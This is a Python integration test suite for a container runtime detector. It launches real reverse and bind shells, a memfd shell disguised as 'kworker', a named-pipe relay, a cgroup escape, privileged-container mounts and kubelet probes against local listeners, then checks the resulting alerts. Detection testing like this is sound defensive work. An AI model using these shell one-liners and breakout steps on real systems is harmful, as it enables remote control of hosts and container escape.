# SPDX-License-Identifier: Apache-2.0
"""The attack, end to end: real containers, real reverse shells, real mounts; each act raises its alert
at the gRPC clients with the right container, process, ancestors and endpoints. Ordinary acts raise none.
"""

import json
import os
import pathlib
import pty
import socket
import subprocess
import tempfile
import time
import unittest

from harness import Container, Daemon, Follower, Listener, wait_until

SHELL = "Reverse shell"
RELAY = "Network relay on a named pipe"
BLOCK_DEVICE = "Container mounts a block device"
HOST_PROC = "Container mounts the host's proc"
CGROUPS = "Container mounts a cgroup hierarchy"
KUBELET_CONTAINER = "Kubelet API called from a container"
KUBELET_NODE = "Unexpected kubelet API call on the node"

# A shell as a memfd under another name, on a socket: first connected, then put on the streams.
IN_MEMORY = """
import os, socket, sys
peer = socket.create_connection(("::1", int(sys.argv[1])))
shell = os.memfd_create("kworker")
with open("/bin/sh", "rb") as file:
    os.write(shell, file.read())
for stream in range(3):
    os.dup2(peer.fileno(), stream)
os.execve(shell, ["[kworker/0:1]"], {"PATH": "/usr/bin:/bin"})
"""


def container_of(alert):
    """The short id, or "host"."""
    return alert["container_id"][:12]


class Attack(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.daemon = Daemon()
        cls.addClassCleanup(cls.daemon.remove)
        cls.watch = Follower.watch(cls.daemon)
        cls.addClassCleanup(cls.watch.stop)
        cls.python = Follower.python(cls.daemon)
        cls.addClassCleanup(cls.python.stop)
        wait_until(lambda: cls.daemon.status()["subscribers"] == 2, "both clients to be subscribed")

    def container(self, *command, **options):
        container = Container(*command, **options)
        self.addCleanup(container.remove)
        return container.start()

    def listener(self, *arguments):
        listener = Listener(*arguments)
        self.addCleanup(listener.close)
        return listener

    def expect(self, rule, container_id, **fields):
        """The alert of `rule` in that container whose output fields include `fields` (_ for .)."""
        wanted = {name.replace("_", "."): value for name, value in fields.items()}

        def matches(alert):
            values = alert["output_fields"]
            return (alert["rule"] == rule and container_of(alert) == container_id
                    and all(values.get(name) == value for name, value in wanted.items()))

        found = self.watch.wait_for(matches, f"{rule} in {container_id} with {wanted}")[0]
        # The client in another language has the same one, to the letter.
        also = self.python.wait_for(lambda a: a["id"] == found["id"], f"{rule} at the Python client")[0]
        self.assertEqual(also["output_fields"], found["output_fields"])
        self.assertEqual(also["output"], found["output"])
        return found

    def none_of(self, *rules, containers):
        """Nothing of those rules came from those containers; asked after a later alert has come."""
        wrong = self.watch.matching(lambda a: a["rule"] in rules and container_of(a) in containers)
        self.assertEqual(wrong, [])

    # Reverse shells out of a container

    def check_shell(self, container, listener, peer_port, heard, shell):
        self.assertIn("uid=0", heard)
        connection = f"127.0.0.1:{peer_port}->127.0.0.1:{listener.port}"
        alert = self.expect(SHELL, container.id[:12], evt_type="execve", proc_stdin_name=connection)
        self.assertEqual(alert["output_fields"]["proc.stdout.name"], connection)
        self.assertEqual(alert["origin"], container.id)
        names = [a["name"] for a in alert["ancestors"]]
        self.assertEqual(names[0], shell)
        self.assertTrue(any(name.startswith("runc") for name in names[1:]), names)

    def test_bash_dev_tcp(self):
        listener = self.listener()
        container = self.container("/usr/bin/bash", "-c",
                                   f"bash -i >& /dev/tcp/127.0.0.1/{listener.port} 0>&1; true")
        heard, port = listener.converse("id")
        self.check_shell(container, listener, port, heard, "bash")

    def test_nc_execute(self):
        listener = self.listener()
        container = self.container("/bin/nc", "127.0.0.1", str(listener.port), "-e", "/bin/sh")
        heard, port = listener.converse("id")
        self.check_shell(container, listener, port, heard, "sh")

    def test_static_program_with_dup3(self):
        listener = self.listener()
        container = self.container("/bin/dup3_shell", "127.0.0.1", str(listener.port))
        heard, port = listener.converse("id")
        self.check_shell(container, listener, port, heard, "sh")

    def test_busybox_by_its_own_name(self):
        listener = self.listener()
        container = self.container("/bin/busybox", "nc", "127.0.0.1", str(listener.port),
                                   "-e", "/bin/busybox", "sh")
        heard, port = listener.converse("id")
        self.check_shell(container, listener, port, heard, "busybox")

    def test_descriptor_in_the_hundreds_over_ipv6(self):
        listener = self.listener(0, socket.AF_INET6)
        container = self.container(
            "/usr/bin/bash", "-c",
            f"0<&196; exec 196<>/dev/tcp/::1/{listener.port}; sh <&196 >&196 2>&196; true")
        heard, port = listener.converse("id")
        self.assertIn("uid=0", heard)
        self.expect(SHELL, container.id[:12], evt_type="execve",
                    proc_stdin_name=f"::1:{port}->::1:{listener.port}")

    def test_bind_shell(self):
        with socket.socket() as probe:
            probe.bind(("127.0.0.1", 0))
            port = probe.getsockname()[1]
        container = self.container("/bin/nc", "-l", "-p", str(port), "-e", "/bin/sh")

        def connected():
            try:
                return socket.create_connection(("127.0.0.1", port))
            except ConnectionRefusedError:
                return None

        with wait_until(connected, "the bind shell to listen") as peer:
            ours = peer.getsockname()[1]
            self.expect(SHELL, container.id[:12],
                        proc_stdin_name=f"127.0.0.1:{port}->127.0.0.1:{ours}")

    def test_shell_behind_a_named_pipe(self):
        listener = self.listener()
        container = self.container(
            "/bin/sh", "-c", "busybox mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | "
                             f"busybox nc 127.0.0.1 {listener.port} >/tmp/f")
        heard, _ = listener.converse("id")
        self.assertIn("uid=0", heard)
        self.expect(RELAY, container.id[:12], proc_stdout_name="/tmp/f")

    def test_shell_in_the_container_says_where_it_came_from_after_leaving_it(self):
        listener = self.listener()
        with tempfile.TemporaryDirectory() as directory:
            container = self.container("/bin/sleep", "60")
            pid = wait_until(lambda: self.init_pid(container), "the container to run")
            # A process of the container moved out of its cgroup, as one that broke out would.
            mover = subprocess.Popen(["nsenter", "-t", str(pid), "-m", "-p", "/bin/sh", "-c",
                                      f"sleep 2; nc 127.0.0.1 {listener.port} -e /bin/sh"],
                                     stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                                     stderr=subprocess.DEVNULL, cwd=directory)
            self.addCleanup(mover.wait)
            children = pathlib.Path(f"/proc/{mover.pid}/task/{mover.pid}/children")
            child = wait_until(lambda: children.read_text().split(), "the child in the container")[0]
            group = self.cgroup2_of(pid)
            (group / "cgroup.procs").write_text(child)
            time.sleep(0.2)
            (self.cgroup2_mount() / "cgroup.procs").write_text(child)
            listener.converse("id")
        alert = self.watch.wait_for(
            lambda a: a["rule"] == SHELL and a["origin"] == container.id, "the escaped shell")[0]
        self.assertEqual(container_of(alert), "host")

    # The same on the host

    def test_shell_on_the_host_names_the_host(self):
        listener = self.listener()
        shell = subprocess.Popen(
            ["bash", "-c", f"bash -i >& /dev/tcp/127.0.0.1/{listener.port} 0>&1; true"],
            stdin=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        self.addCleanup(shell.wait)
        heard, port = listener.converse("id")
        self.assertIn("uid=0", heard)
        alert = self.expect(SHELL, "host", evt_type="execve",
                            proc_stdin_name=f"127.0.0.1:{port}->127.0.0.1:{listener.port}")
        self.assertEqual(alert["origin"], "host")
        self.assertIn(os.getpid(), [a["pid"] for a in alert["ancestors"]])

    def test_program_in_memory_on_the_host(self):
        listener = self.listener(0, socket.AF_INET6)
        program = subprocess.Popen(
            ["/usr/bin/python3", "-c", IN_MEMORY, str(listener.port)],
            stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        self.addCleanup(program.wait)
        heard, port = listener.converse("id")
        self.assertIn("uid=0", heard)
        self.expect(SHELL, "host", evt_type="execveat",
                    proc_stdin_name=f"::1:{port}->::1:{listener.port}")

    # Breakout by mount

    def test_mounts_in_a_privileged_container(self):
        with tempfile.NamedTemporaryFile(suffix=".img") as image:
            image.truncate(8 << 20)
            subprocess.run(["mkfs.ext2", "-q", "-F", image.name], check=True)
            device = subprocess.run(["losetup", "--find", "--show", image.name], check=True,
                                    capture_output=True, text=True).stdout.strip()
            self.addCleanup(subprocess.run, ["losetup", "-d", device])
            minor = os.minor(os.stat(device).st_rdev)
            script = (f"busybox mknod /tmp/disk b 7 {minor} && mount -t ext2 /tmp/disk /mnt && umount /mnt;"
                      "mount -t proc proc /mnt && umount /mnt;"
                      "mount -t cgroup2 cgroup2 /mnt && umount /mnt; echo all-done")
            container = self.container("/bin/sh", "-c", script, privileged=True, host_pid=True)
            code, printed = container.finish()
            self.assertEqual((code, printed), (0, "all-done\n"))
        short = container.id[:12]
        disk = self.expect(BLOCK_DEVICE, short)
        self.assertTrue(disk["output_fields"]["proc.cmdline"].startswith("mount -t ext2"))
        self.assertEqual([a["name"] for a in disk["ancestors"]][:2], ["mount", "sh"])
        self.expect(HOST_PROC, short)
        self.expect(CGROUPS, short)

    def test_a_runtimes_own_mounts_are_quiet(self):
        before = self.container("/bin/true")
        before.finish()
        marker = self.container("/bin/sh", "-c", "mount -t cgroup2 c /mnt", privileged=True)
        marker.finish()
        self.expect(CGROUPS, marker.id[:12])
        self.none_of(BLOCK_DEVICE, HOST_PROC, CGROUPS, SHELL, containers=[before.id[:12], "host"])

    # Unexpected kubelet calls

    def test_kubelet_called_from_a_container(self):
        listener = self.listener(10250)
        container = self.container("/usr/bin/bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/10250")
        listener.accept()[0].close()
        alert = self.expect(KUBELET_CONTAINER, container.id[:12])
        self.assertEqual(alert["output_fields"]["fd.rport"], 10250)
        self.assertTrue(alert["output_fields"]["fd.name"].endswith("->127.0.0.1:10250"))
        self.assertEqual(alert["output_fields"]["proc.exepath"], "/usr/bin/bash")

    def test_kubelet_called_by_an_unknown_process_of_the_node(self):
        listener = self.listener(10250)
        client = subprocess.run(["bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/10250"], check=True)
        self.assertEqual(client.returncode, 0)
        listener.accept()[0].close()
        self.expect(KUBELET_NODE, "host", fd_rport=10250)

    # Ordinary acts

    def test_ordinary_acts_give_no_alert(self):
        begun = time.time_ns()
        self.interactive_shell()
        subprocess.run(["bash", "-i", "-c", "true"], stdin=subprocess.DEVNULL,
                       stderr=subprocess.DEVNULL, check=True)
        listener = self.listener()
        with socket.create_connection(("127.0.0.1", listener.port)):
            listener.accept()[0].close()
        subprocess.run(["bash", "-c", "exec 0</etc/passwd; exec 1>/dev/null; read line; echo $line"], check=True)
        ours, theirs = socket.socketpair()
        with ours, theirs:  # as sshd and systemd do without a terminal
            subprocess.run(["sh", "-c", "true"], stdin=theirs, stdout=theirs, check=True)
        with socket.socket() as waiting:  # as inetd with "wait", or a service started by its socket
            waiting.bind(("127.0.0.1", 0))
            waiting.listen()
            subprocess.run(["sh", "-c", "true"], stdin=waiting, check=True)
        for shell in ("sh", "bash"):
            subprocess.run([shell], input=b"id", stdout=subprocess.PIPE, check=True)
        container = self.container("/bin/sh", "-c", "echo ordinary | cat; nc -w 1 127.0.0.1 "
                                   f"{listener.port} </dev/null; ls /mnt")
        listener.accept()[0].close()
        container.finish()
        marker = self.container("/bin/sh", "-c", "mount -t cgroup2 c /mnt", privileged=True)
        marker.finish()
        self.expect(CGROUPS, marker.id[:12])
        every = {SHELL, RELAY, BLOCK_DEVICE, HOST_PROC, CGROUPS, KUBELET_CONTAINER, KUBELET_NODE}
        self.none_of(*every, containers=[container.id[:12]])
        # Of this process and what it started since, whatever the rule; not what else the node does.
        alarms = self.watch.matching(
            lambda a: container_of(a) == "host" and a["output_fields"]["evt.time"] >= begun
            and os.getpid() in [b["pid"] for b in a["ancestors"]])
        self.assertEqual([f"{a['rule']}: {a['output']}" for a in alarms], [])

    def interactive_shell(self):
        pid, master = pty.fork()
        if pid == 0:
            os.execvp("bash", ["bash", "-i"])
        os.write(master, b"exit\n")
        try:
            while os.read(master, 4096):
                pass
        except OSError:  # the terminal's other end is closed
            pass
        os.close(master)
        self.assertEqual(os.waitpid(pid, 0)[1], 0)

    # Where things are

    def init_pid(self, container):
        state = subprocess.run([*container.runtime, "state", container.id],
                               capture_output=True, text=True)
        if state.returncode != 0:
            return None
        return json.loads(state.stdout).get("pid") or None

    @staticmethod
    def cgroup2_mount():
        for line in pathlib.Path("/proc/self/mounts").read_text().splitlines():
            device, where, kind, *_ = line.split()
            if kind == "cgroup2":
                return pathlib.Path(where)
        raise AssertionError("no cgroup2 is mounted")

    def cgroup2_of(self, pid):
        for line in pathlib.Path(f"/proc/{pid}/cgroup").read_text().splitlines():
            if line.startswith("0::"):
                return self.cgroup2_mount() / line[3:].lstrip("/")
        raise AssertionError(f"{pid} is in no cgroup2")


if __name__ == "__main__":
    unittest.main(verbosity=2)
